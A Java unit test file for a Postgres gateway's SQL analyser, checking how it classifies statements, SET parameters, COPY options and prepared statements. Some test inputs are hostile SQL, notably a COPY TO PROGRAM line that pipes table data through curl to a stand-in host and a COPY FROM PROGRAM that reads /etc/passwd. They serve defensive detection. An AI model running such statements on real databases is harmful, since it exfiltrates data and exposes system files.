package dev.portcullis.gateway.protocol.postgres.sql;

import static dev.portcullis.gateway.protocol.postgres.sql.Sql.analyze;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.commands;
import static dev.portcullis.gateway.protocol.postgres.sql.Sql.only;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CommandTest {

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
        "SELECT 1 | SELECT",
        "VALUES (1), (2) | SELECT",
        "TABLE users | SELECT",
        "(SELECT 1) UNION (SELECT 2) | SELECT",
        "WITH a AS (SELECT 1) SELECT * FROM a | SELECT",
        "WITH a AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM a) | DELETE",
        "INSERT INTO t VALUES (1) | INSERT",
        "UPDATE t SET a = 1 | UPDATE",
        "DELETE FROM t | DELETE",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE | MERGE",
        "CREATE TABLE t (a int) | CREATE",
        "CREATE EXTENSION dblink | CREATE",
        "CREATE ROLE admin SUPERUSER | CREATE",
        "ALTER ROLE bob SUPERUSER | ALTER",
        "ALTER SYSTEM SET work_mem = '1GB' | ALTER",
        "DROP TABLE t | DROP",
        "TRUNCATE t | TRUNCATE",
        "COPY t FROM STDIN | COPY",
        "PREPARE p AS SELECT 1 | PREPARE",
        "DEALLOCATE p | DEALLOCATE",
        "DO $$BEGIN NULL; END$$ | DO",
        "CALL p() | CALL",
        "SET search_path = public | SET",
        "RESET search_path | RESET",
        "SHOW ALL | SHOW",
        "BEGIN | BEGIN",
        "BEGIN ISOLATION LEVEL SERIALIZABLE | BEGIN",
        "START TRANSACTION READ ONLY | BEGIN",
        "COMMIT | COMMIT",
        "END | COMMIT",
        "COMMIT PREPARED 'x' | COMMIT",
        "ROLLBACK | ROLLBACK",
        "ABORT | ROLLBACK",
        "ROLLBACK TO SAVEPOINT s | ROLLBACK",
        "SAVEPOINT s | SAVEPOINT",
        "RELEASE SAVEPOINT s | RELEASE",
        "GRANT SELECT ON t TO bob | GRANT",
        "REVOKE SELECT ON t FROM bob | REVOKE",
        "EXPLAIN SELECT 1 | EXPLAIN",
        "VACUUM | VACUUM",
        "ANALYZE | ANALYZE",
        "ANALYSE t | ANALYZE",
        "LISTEN ch | LISTEN",
        "NOTIFY ch, 'hi' | NOTIFY",
        "UNLISTEN * | UNLISTEN",
        "DISCARD ALL | DISCARD",
        "LOCK t | LOCK",
        "CHECKPOINT | OTHER",
        "CLUSTER t | OTHER",
        "LOAD 'auto_explain' | OTHER",
        "COMMENT ON TABLE t IS 'x' | OTHER",
        "FETCH 10 FROM c | FETCH",
        "MOVE FORWARD ALL IN c | MOVE",
        "DECLARE c CURSOR FOR SELECT 1 | DECLARE",
        "CLOSE c | CLOSE",
        "PREPARE TRANSACTION 'gid' | OTHER",
    })
    void commandIsTheContractVerb(String sql, String command) {
        assertEquals(command, analyze(sql).statements().get(0).command());
        assertNull(analyze(sql).parseError());
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
        "SET search_path TO public | search_path",
        "SET LOCAL statement_timeout = 0 | statement_timeout",
        "SET SESSION work_mem = '64MB' | work_mem",
        "set Search_Path = x | search_path",
        "SET \"TimeZone\" = 'UTC' | timezone",
        "SET myapp.tenant_id = 5 | myapp.tenant_id",
        "SET ROLE postgres | role",
        "SET LOCAL ROLE NONE | role",
        "SET SESSION AUTHORIZATION bob | session_authorization",
        "SET LOCAL SESSION AUTHORIZATION DEFAULT | session_authorization",
        "SET TIME ZONE 'UTC' | timezone",
        "SET NAMES 'UTF8' | client_encoding",
        "SET SCHEMA 'app' | search_path",
        "SET XML OPTION DOCUMENT | xmloption",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE | transaction",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY | session_characteristics",
        "SET CONSTRAINTS ALL DEFERRED | constraints",
        "RESET ALL | all",
        "RESET ROLE | role",
        "RESET SESSION AUTHORIZATION | session_authorization",
        "RESET TIME ZONE | timezone",
        "RESET statement_timeout | statement_timeout",
    })
    void setAndResetNameTheParameter(String sql, String parameter) {
        assertEquals(parameter, only(sql).setParameter());
    }

    @Test
    void setParameterIsNullForOtherCommands() {
        assertNull(only("SHOW search_path").setParameter());
        assertNull(only("SELECT set_config('role', 'x', false)").setParameter());
    }

    @Test
    void copyReportsDirectionAndProgram() {
        assertEquals(new CopyInfo("to", true), only("COPY users TO PROGRAM 'curl -d @- evil'").copy());
        assertEquals(new CopyInfo("from", true), only("COPY users FROM PROGRAM 'cat /etc/passwd'").copy());
        assertEquals(new CopyInfo("to", false, true, "SELECT 1", new CopyFormat(CopyFormat.Kind.CSV, ',', "", '"', '"', true)),
                only("COPY (SELECT 1) TO STDOUT WITH CSV HEADER").copy());
        assertEquals(new CopyInfo("from", false), only("COPY users FROM '/var/lib/x.csv'").copy());
        assertEquals(new CopyInfo("to", false, true, "SELECT * FROM users", CopyFormat.BINARY), only("COPY BINARY users TO STDOUT").copy());
        assertEquals(new CopyInfo("to", false), only("COPY users TO '/tmp/x'").copy(), "a server file is not the client");
        assertNull(only("SELECT 1").copy());
    }

    @Test
    void copyToStdoutKnowsItsColumnsAndFormat() {
        CopyInfo c = only("COPY public.users (id, email) TO STDOUT WITH (FORMAT csv, DELIMITER ';', NULL 'NULL', QUOTE '''', HEADER false)").copy();
        assertEquals("SELECT id, email FROM public.users", c.source());
        assertEquals(new CopyFormat(CopyFormat.Kind.CSV, ';', "NULL", '\'', '\'', false), c.format());
        assertEquals(CopyFormat.TEXT, only("COPY users TO STDOUT").copy().format());
        assertEquals(new CopyFormat(CopyFormat.Kind.TEXT, '|', "\\N", '"', '"', false), only("COPY users TO STDOUT DELIMITER '|'").copy().format());
        assertEquals(new CopyFormat(CopyFormat.Kind.CSV, ',', "", '"', '"', false),
                only("COPY users TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *)").copy().format());
        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (FORMAT csv, ENCODING 'LATIN1')").copy().format());
        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (DELIMITER 'ab')").copy().format());
        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (NEW_OPTION 1)").copy().format());
    }

    @Test
    void preparedNameIsSetForPrepareExecuteAndDeallocate() {
        Analysis a = analyze("PREPARE \"Get\" (int) AS SELECT $1; EXECUTE \"Get\"(1); DEALLOCATE PREPARE \"Get\"; DEALLOCATE ALL");
        assertNull(a.parseError());
        assertEquals(List.of("PREPARE", "SELECT", "EXECUTE", "SELECT", "DEALLOCATE", "DEALLOCATE"), commands(a));
        assertEquals("Get", a.statements().get(0).preparedName());
        assertNull(a.statements().get(1).preparedName());
        assertEquals("Get", a.statements().get(2).preparedName());
        assertEquals("Get", a.statements().get(4).preparedName());
        assertNull(a.statements().get(5).preparedName(), "DEALLOCATE ALL names no statement");
    }

    @Test
    void explainWrapsTheExplainedStatement() {
        for (String sql : List.of("EXPLAIN DELETE FROM t", "EXPLAIN ANALYZE VERBOSE DELETE FROM t",
                "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM t", "explain analyse DELETE FROM t")) {
            Analysis a = analyze(sql);
            assertNull(a.parseError(), sql);
            assertEquals(List.of("EXPLAIN", "DELETE"), commands(a), sql);
            assertNull(a.statements().get(0).via());
            assertEquals(List.of(), a.statements().get(0).tables());
            assertEquals("explain", a.statements().get(1).via());
            assertEquals("DELETE FROM t", a.statements().get(1).normalized());
        }
    }

    @Test
    void doBodyIsNotAnalysed() {
        StatementInfo s = only("DO LANGUAGE plpgsql $body$BEGIN DELETE FROM users; PERFORM pg_read_file('x'); END$body$");
        assertEquals(List.of(), s.tables());
        assertEquals(List.of(), s.functions());
    }

    @Test
    void unrecognisedStatementIsOtherWithTheServersSyntaxError() {
        Analysis a = analyze("SELEKT 1; FROBNICATE the_database");
        assertEquals(List.of("OTHER", "OTHER"), commands(a));
        assertEquals("statement 1: syntax error at or near \"SELEKT\" (and 1 more)", a.parseError());
    }

    @Test
    void functionCallMessageIsAPseudoStatementHoldingTheOid() {
        StatementInfo call = StatementInfo.functionCall("764");
        assertEquals("FUNCTION_CALL", call.command());
        assertEquals(List.of("764"), call.functions());
        assertEquals("", call.normalized());
    }

    @Test
    void unreadableCopyStillSaysCopyWithTheWorstReading() {
        Analysis a = analyze("COPY users PROGRAM 'x'");
        assertEquals(List.of("COPY"), commands(a));
        assertEquals(new CopyInfo("to", true), a.statements().get(0).copy());
        assertNotNull(a.parseError());
    }
}
